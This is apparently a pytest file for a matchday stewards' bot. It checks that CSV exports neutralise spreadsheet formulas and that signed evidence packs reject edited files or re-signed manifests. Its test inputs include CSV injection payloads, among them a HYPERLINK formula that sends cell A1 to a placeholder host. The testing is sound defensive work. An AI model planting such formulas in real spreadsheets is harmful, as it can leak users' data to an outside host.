"""Issue 36 items 3-6: the records the club and the SAG are handed can be checked and are safe
to open. The stewards' record verifies (an edited one is refused, the file named); no CSV
cell is ever read as a spreadsheet formula (and the manifest signs the file as written);
`matchday verify` without --key uses this installation's key and refuses a pack re-signed
with another; the still-open list and `summary --json` never stop at 50 unsaid; a
150-incident report keeps to what the README says."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import pypdfium2 as pdfium

from bot.evidence.debrief.pack_folder import build_pack
from bot.evidence.duty_record import export_stewards
from bot.evidence.export import MANIFEST, export_fixture, file_sha, signed_part
from bot.evidence.postmatch import build_report, report_pdf
from bot.evidence.signing import load_or_create, new_key, public_hex, sign
from bot.evidence.summary import summary_figures, summary_text
from bot.evidence.verify import verify_dir
from tests.support.cli import matchday

FORMULA = ('=HYPERLINK("http://x.invalid/?"&A1,"Steward")', "+SUM(1,2)", "-2+3", "@cmd",
           "\tx", "\rx")


def test_a_formula_cell_is_written_as_text_and_read_back_exactly() -> None:
    from bot.evidence.csv_cells import plain, safe_cell

    for value in (*FORMULA, "'=already quoted", "'", "plain", "", "12", "a=b"):
        cell = safe_cell(value)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), value
        assert plain(cell) == value


async def test_no_csv_of_the_pack_or_the_stewards_record_holds_a_formula(
        say, core, tmp_path: Path) -> None:
    fx = await core.active_fixture()
    name = "=HYPERLINK(http://x.invalid/?&A1,Steward)"  # the chat's parser drops quotes
    assert (await say(f"/deploy 14 stb_250_gangway {name}", as_="control")).reply.ok
    assert (await say("/inspect exits_gates fail =1+2 gate 3 chained", as_="supervisor")
            ).reply.ok
    assert (await say("/decision d=-2 stewards short at gate F why=@ops said so",
                      as_="safety_officer")).reply.ok
    key = new_key()
    await build_pack(core.store, core.facades, fx, core.grounds[fx.ground],
                     core.settings.config_dir,
                     core.settings.zone, tmp_path / "pack", key=key)
    out, _ = await export_stewards(core.store, core.facades, [fx], core.grounds,
                                   core.settings.config_dir,
                                   tmp_path / "stewards", key=key, scope={"fixture": fx.id},
                                   at="2026-12-02T23:00:00+00:00")
    seen = set()
    for folder in (tmp_path / "pack", out):
        manifest = json.loads((folder / MANIFEST).read_text())
        for path in sorted(folder.glob("*.csv")):
            with path.open(encoding="utf-8", newline="") as f:
                for row in csv.reader(f):
                    for cell in row:
                        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), \
                            (path.name, cell)
                        seen.add(cell[1:] if cell.startswith("'") else cell)
            assert manifest["files"][path.name] == file_sha(path)  # signed as written
    assert name in seen
    assert "-2 stewards short at gate F" in seen
    assert any(v.startswith("=1+2") for v in seen)
    assert verify_dir(tmp_path / "pack", key=public_hex(key)).ok  # events.csv reads back


async def test_the_stewards_record_verifies_and_an_edit_is_named(say, core,
                                                                 tmp_path: Path) -> None:
    fx = await core.active_fixture()
    await say("/deploy 14 stb_250_gangway Steward 14", as_="control")
    key = new_key()
    out, _ = await export_stewards(core.store, core.facades, [fx], core.grounds,
                                   core.settings.config_dir,
                                   tmp_path / "stewards", key=key, scope={"fixture": fx.id},
                                   at="2026-12-02T23:00:00+00:00")
    ok = verify_dir(out, key=public_hex(key))
    assert ok.ok and str(ok).startswith("OK: stewards' record, 1 file(s) as signed"), ok
    p = matchday("verify", str(out), env={"MATCHDAY_DATA_DIR": str(tmp_path / "elsewhere")})
    assert p.returncode == 0 and p.stdout.startswith("OK:"), p.stdout + p.stderr
    f = out / "stewards.csv"
    f.write_text(f.read_text().replace("Steward 14", "Steward 41"))
    p = matchday("verify", str(out), env={"MATCHDAY_DATA_DIR": str(tmp_path / "elsewhere")})
    assert p.returncode == 1
    assert p.stdout.strip() == "FAILED: stewards.csv: file changed since export"


async def test_verify_uses_this_installations_key_without_being_told(core, tmp_path: Path
                                                                     ) -> None:
    fx = await core.active_fixture()
    data = tmp_path / "installation"
    key = load_or_create(data)
    out = await export_fixture(core.store, core.facades, fx.id, tmp_path / "export", False, key=key)
    env = {"MATCHDAY_DATA_DIR": str(data)}
    p = matchday("verify", str(out), env=env)
    assert p.returncode == 0, p.stdout + p.stderr
    assert p.stdout.strip().endswith(f"by key {public_hex(key)} (this installation's key)")
    assert len(p.stdout.strip().splitlines()) == 1
    # re-signed with another key (its public half put in the manifest): refused here
    other = new_key()
    manifest = json.loads((out / MANIFEST).read_text())
    manifest["public_key"] = public_hex(other)
    manifest.pop("signature")
    manifest["signature"] = sign(other, signed_part(manifest))
    (out / MANIFEST).write_text(json.dumps(manifest, indent=2) + "\n")
    p = matchday("verify", str(out), env=env)
    assert p.returncode == 1
    assert p.stdout.startswith(f"FAILED: manifest.json: signed by key {public_hex(other)}, "
                               f"not by this installation's key {public_hex(key)}")
    # with no key on this machine, it says it checked only the key the pack names
    p = matchday("verify", str(out), env={"MATCHDAY_DATA_DIR": str(tmp_path / "no-key")})
    assert p.returncode == 0 and "the key the pack itself names" in p.stdout
    assert not (tmp_path / "no-key").exists()  # verify makes no key


async def test_the_open_list_is_never_cut_unsaid(say, core) -> None:
    fx = await core.active_fixture()
    for i in range(60):
        core.clock.advance(timedelta(minutes=11))  # past the 10 min merge window
        await say(f"/incident medical @gate_f s2 fan {i}", as_="steward")
    fig = await summary_figures(core.store, core.facades, fx)
    assert len(fig["open_incidents"]) == fig["incidents"]["open"] == 60
    line = summary_text(fig, core.grounds[fx.ground]).splitlines()[-1]
    assert line.startswith("Still open (60): INC-")
    assert line.endswith(", +50 more (summary --json lists all)")


async def test_a_150_incident_report_is_as_long_as_the_readme_says(say, core) -> None:
    fx = await core.active_fixture()
    for i in range(150):
        core.clock.advance(timedelta(minutes=11))  # past the 10 min merge window
        await say(f"/incident medical @gate_f s{1 + i % 4} fan {i}", as_="steward")
        if i % 3:
            await say(f"/resolve {i + 1}", as_="control")
    tz = core.settings.zone
    rep = await build_report(core.store, core.facades, core.facades.web.feed, fx,
                             core.grounds[fx.ground],
                             tz, core.clock.now())
    doc = pdfium.PdfDocument(report_pdf(rep, None, tz))
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    assert "150 incidents: 4 pages" in readme
    assert len(doc) == 4
    first = doc[0].get_textpage().get_text_range()
    # summary first: the figures and the still-open list before the long table
    assert "The night in figures" in first and "STILL OPEN at the report: 50" in first
